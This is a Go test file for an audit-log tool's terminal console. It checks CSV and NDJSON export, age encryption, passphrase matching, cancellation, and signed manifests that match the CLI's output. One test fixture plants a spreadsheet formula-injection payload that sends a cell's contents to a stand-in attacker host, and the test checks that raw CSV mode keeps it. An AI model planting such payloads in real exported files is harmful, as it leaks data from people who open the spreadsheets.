package tui

import (
	"bufio"
	"context"
	"crypto/ed25519"
	"encoding/hex"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"filippo.io/age"
	"filippo.io/age/armor"

	"github.com/auditctl/auditctl/pkg/audit"
	"github.com/auditctl/auditctl/pkg/chain"
	"github.com/auditctl/auditctl/pkg/cmd/logs/export"
	"github.com/auditctl/auditctl/pkg/cmdutil"
	"github.com/auditctl/auditctl/pkg/config"
)

// exportForm opens the export form and types path over the proposed one.
func (h *harness) exportForm(path string) {
	h.t.Helper()
	h.key("e")
	if h.m.export == nil || !strings.Contains(h.view(), "Export") {
		h.t.Fatalf("e did not open the export:\n%s", h.view())
	}
	h.key("ctrl+u")
	h.typeText(path)
}

func countLines(t *testing.T, r io.Reader) int {
	t.Helper()
	sc := bufio.NewScanner(r)
	sc.Buffer(nil, 1<<20)
	n := 0
	for sc.Scan() {
		n++
	}
	return n
}

// e exports the current result with logs export's code: CSV with a
// header line, then NDJSON encrypted to an age recipient (decrypted
// here), in the background with its progress; a file that exists is
// replaced only on a second Enter; export.require_encryption refuses a
// clear export.
func TestExport(t *testing.T) {
	db := demoDB(t)
	dir := t.TempDir()
	h := newLogsHarness(t, db, Options{}, 160, 30)
	h.search("action:DeleteUser")
	want := h.m.logs.total

	csv := filepath.Join(dir, "deletions.csv")
	h.exportForm(csv)
	h.key("enter")
	h.settle("the export", func() bool { return h.m.export == nil || h.m.export.job != nil && h.m.export.job.done })
	if !strings.Contains(h.view(), "exported ") || !strings.Contains(h.view(), "deletions.csv") {
		t.Fatalf("no notice of the export:\n%s", h.view())
	}
	f, err := os.Open(csv)
	if err != nil {
		t.Fatal(err)
	}
	if n := countLines(t, f); n != want+1 {
		t.Fatalf("the CSV holds %d lines, want %d events and a header", n, want)
	}
	f.Close()
	h.key("esc")

	// again: it exists; NDJSON, encrypted to an age key
	id, err := age.GenerateX25519Identity()
	if err != nil {
		t.Fatal(err)
	}
	h.exportForm(csv)
	h.key("up") // format
	h.key("right")
	if got := h.m.export.inputs[exPath].Value(); got != strings.TrimSuffix(csv, ".csv")+".ndjson" {
		t.Fatalf("the format did not rename the file: %s", got)
	}
	h.key("down")
	h.key("down")
	h.key("right") // to recipients
	h.key("down")
	h.typeText(id.Recipient().String())
	h.key("enter")
	h.settle("the encrypted export", func() bool { return h.m.export == nil || h.m.export.job != nil && h.m.export.job.done })
	if !strings.Contains(h.view(), "encrypted with age to 1 recipient") {
		t.Fatalf("no notice of the encryption:\n%s", h.view())
	}
	ef, err := os.Open(strings.TrimSuffix(csv, ".csv") + ".ndjson.age")
	if err != nil {
		t.Fatal(err)
	}
	r, err := age.Decrypt(ef, id)
	if err != nil {
		t.Fatal(err)
	}
	if n := countLines(t, r); n != want {
		t.Fatalf("the NDJSON holds %d lines, want %d", n, want)
	}
	ef.Close()
	h.key("esc")

	// replacing a file asks for a second Enter
	h.exportForm(csv)
	h.key("enter")
	if h.m.export.job != nil || !strings.Contains(h.view(), "exists: enter again replaces it") {
		t.Fatalf("an existing file was replaced at once:\n%s", h.view())
	}
	h.key("esc")

	// a passphrase: the two must match
	h.exportForm(filepath.Join(dir, "p.csv"))
	h.key("down")
	h.key("right")
	h.key("right")
	h.key("down")
	h.typeText("s3cret")
	h.key("down")
	h.typeText("s3creX")
	h.key("enter")
	if h.m.export.job != nil || !strings.Contains(h.view(), "the two passphrases differ") || strings.Contains(h.view(), "s3cret") {
		t.Fatalf("mismatched passphrases:\n%s", h.view())
	}
	h.key("esc")

	// export.require_encryption refuses a clear export
	h2 := newLogsHarness(t, db, Options{Config: func() (*config.File, error) {
		cf := &config.File{Path: "/etc/auditctl.yaml"}
		cf.Export.RequireEncryption = true
		return cf, nil
	}}, 100, 30)
	clear := filepath.Join(dir, "clear.csv")
	h2.exportForm(clear)
	h2.key("enter")
	h2.settle("the refusal", func() bool { return h2.m.export == nil || h2.m.export.job != nil && h2.m.export.job.done })
	if _, err := os.Stat(clear); err == nil || !strings.Contains(h2.view(), "unencrypted export refused") {
		t.Fatalf("require_encryption: %v\n%s", err, h2.view())
	}
}

// slowExport is an event service whose export waits after 10 events
// until its context ends.
type slowExport struct {
	audit.EventService
	once    sync.Once
	started chan struct{}
}

func (s *slowExport) EachEvent(ctx context.Context, f audit.Filter, p audit.Page, fn func(*audit.Event) error) error {
	n := 0
	return s.EventService.EachEvent(ctx, f, p, func(e *audit.Event) error {
		if n++; n == 10 {
			s.once.Do(func() { close(s.started) })
			<-ctx.Done()
			return ctx.Err()
		}
		return fn(e)
	})
}

// A running export shows its progress, goes on behind Esc, and x cancels
// it: no file is left.
func TestExportCancelled(t *testing.T) {
	db := demoDB(t)
	svc := &slowExport{EventService: db, started: make(chan struct{})}
	h := newLogsHarness(t, svc, Options{}, 100, 30)
	path := filepath.Join(t.TempDir(), "all.csv")
	h.exportForm(path)
	h.key("enter")
	h.settle("the export to start", func() bool {
		select {
		case <-svc.started:
			return true
		default:
			return false
		}
	})
	h.settle("the progress", func() bool { return strings.Contains(h.view(), "Written    9 of ") })
	h.key("esc") // hidden: the export goes on
	if h.m.export == nil || !strings.Contains(h.view(), "exporting 9 of ") {
		t.Fatalf("the header does not show the running export:\n%s", h.view())
	}
	h.key("e")
	h.key("x")
	h.settle("the cancellation", func() bool { return h.m.export.job.done })
	if !strings.Contains(h.view(), "export cancelled") {
		t.Fatalf("no notice of the cancellation:\n%s", h.view())
	}
	entries, _ := os.ReadDir(filepath.Dir(path))
	if len(entries) != 0 {
		t.Fatalf("a cancelled export left %v", entries)
	}
}

// exportRow moves the export form to row r.
func (h *harness) exportRow(r int) {
	h.t.Helper()
	for i := 0; i < exRows; i++ {
		if h.m.export.row == r {
			return
		}
		h.key("down")
	}
	h.t.Fatalf("no row %s in the export form", exportLabels[r])
}

// cliExport runs `auditctl logs export args...` (the command itself,
// export.NewCmdExport) over the cache at db with the config directory
// dir (where the signing key is).
func cliExport(t *testing.T, db, dir string, args ...string) {
	t.Helper()
	ios, _, _, errOut := cmdutil.Test()
	f := &cmdutil.Factory{IOStreams: ios, Now: func() time.Time { return now }, DBPath: db, ConfigPath: filepath.Join(dir, "config.yaml")}
	defer f.Close()
	cmd := export.NewCmdExport(f, nil)
	cmd.SetArgs(args)
	cmd.SetOut(io.Discard)
	cmd.SetErr(io.Discard)
	if err := cmd.ExecuteContext(context.Background()); err != nil {
		t.Fatalf("logs export %v: %v\n%s", args, err, errOut)
	}
}

func readFile(t *testing.T, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// The export form's options of `logs export` that matter for evidence:
// --csv-raw, --manifest (signed, with the chain head) and --armor, through
// the same code: the files the console writes are the command's. The
// command run with the filter the console's manifest records writes the
// same CSV, byte for byte, and the same signed manifest; an armored age
// file decrypts to what the command's armored file decrypts to.
func TestExportAsTheCLI(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "evidence.db")
	evs := tailEvents("ev", now.Add(-3*time.Hour), 30)
	evs[3].Description = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	evs[7].Actor = "+1 555 0100"
	importAs(t, path, evs)
	db := openDB(t, path)
	keyDir := filepath.Join(dir, "config")
	key := func() (ed25519.PrivateKey, string, error) {
		k, created, err := chain.LoadOrCreateKey(filepath.Join(keyDir, chain.KeyFile))
		if created {
			return k, filepath.Join(keyDir, chain.KeyFile), err
		}
		return k, "", err
	}
	head := func(ctx context.Context) (*chain.ManifestChain, error) {
		seq, link, err := db.ChainHead(ctx)
		if err != nil {
			return nil, err
		}
		return &chain.ManifestChain{Seq: seq, Head: hex.EncodeToString(link[:])}, nil
	}
	h := newLogsHarness(t, db, Options{SigningKey: key, ChainHead: head}, 120, 30, "--all")
	h.search("-actor:nobody@example.com status:success")

	// CSV, formulas kept, a signed manifest
	tuiDir, cliDir := filepath.Join(dir, "tui"), filepath.Join(dir, "cli")
	for _, d := range []string{tuiDir, cliDir} {
		if err := os.Mkdir(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	h.exportForm("out.csv")
	h.exportRow(exCSVRaw)
	h.key("right")
	h.exportRow(exManifest)
	h.key("right")
	golden(t, "export_options_120x30.txt", h.view())
	h.exportRow(exPath)
	h.key("ctrl+u")
	h.typeText(filepath.Join(tuiDir, "out.csv"))
	h.key("enter")
	h.settle("the export", func() bool { return h.m.export == nil || h.m.export.job != nil && h.m.export.job.done })
	if s := h.m.status; !strings.Contains(s, "exported 30 events") || !strings.Contains(s, "; the signed manifest "+filepath.Join(tuiDir, "out.csv.manifest.json")) ||
		!strings.Contains(s, "(signing key created: ") {
		t.Fatalf("the notice does not say the manifest and the key: %s", s)
	}
	h.key("esc")
	tuiCSV := readFile(t, filepath.Join(tuiDir, "out.csv"))
	if !strings.Contains(string(tuiCSV), `"=HYPERLINK(`) || !strings.Contains(string(tuiCSV), ",+1 555 0100,") {
		t.Fatalf("--csv-raw: the formulas are not kept:\n%s", tuiCSV)
	}
	m, err := chain.ReadManifest(filepath.Join(tuiDir, "out.csv"+chain.ManifestSuffix))
	if err != nil {
		t.Fatal(err)
	}
	pub, _, _ := key()
	if problems := chain.CheckManifest(filepath.Join(tuiDir, "out.csv"+chain.ManifestSuffix), m, pub.Public().(ed25519.PublicKey)); len(problems) > 0 || m.Events != 30 || m.Chain == nil {
		t.Fatalf("the console's manifest: %v (%d events, chain %v)", problems, m.Events, m.Chain)
	}
	args := append(append([]string{}, m.Filter.Args...), "--csv-raw", "--manifest", "-O", filepath.Join(cliDir, "out.csv"))
	cliExport(t, path, keyDir, args...)
	if cliCSV := readFile(t, filepath.Join(cliDir, "out.csv")); string(cliCSV) != string(tuiCSV) {
		t.Fatalf("the CSV differs from logs export %v:\n%s\n---\n%s", args, tuiCSV, cliCSV)
	}
	if a, b := readFile(t, filepath.Join(tuiDir, "out.csv"+chain.ManifestSuffix)), readFile(t, filepath.Join(cliDir, "out.csv"+chain.ManifestSuffix)); string(a) != string(b) {
		t.Fatalf("the manifest differs from logs export's:\n%s\n---\n%s", a, b)
	}

	// NDJSON, encrypted to an age key, armored
	id, err := age.GenerateX25519Identity()
	if err != nil {
		t.Fatal(err)
	}
	h.exportForm(filepath.Join(tuiDir, "out.ndjson"))
	h.key("up")
	h.key("right") // ndjson
	h.exportRow(exEncrypt)
	h.key("right")
	h.exportRow(exRecipients)
	h.typeText(id.Recipient().String())
	h.exportRow(exArmor)
	h.key("right")
	h.key("enter")
	h.settle("the armored export", func() bool { return h.m.export == nil || h.m.export.job != nil && h.m.export.job.done })
	h.key("esc")
	cliExport(t, path, keyDir, append(append([]string{}, m.Filter.Args...), "--armor", "--encrypt-to", id.Recipient().String(), "-O", filepath.Join(cliDir, "out.ndjson.age"))...)
	plain := func(file string) string {
		b := readFile(t, file)
		if !strings.HasPrefix(string(b), "-----BEGIN AGE ENCRYPTED FILE-----\n") {
			t.Fatalf("%s is not armored: %q", file, b[:min(len(b), 40)])
		}
		r, err := age.Decrypt(armor.NewReader(strings.NewReader(string(b))), id)
		if err != nil {
			t.Fatal(err)
		}
		out, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		return string(out)
	}
	a, b := plain(filepath.Join(tuiDir, "out.ndjson.age")), plain(filepath.Join(cliDir, "out.ndjson.age"))
	if a != b || strings.Count(a, "\n") != 30 {
		t.Fatalf("the armored NDJSON differs from logs export's (%d and %d lines)", strings.Count(a, "\n"), strings.Count(b, "\n"))
	}
}
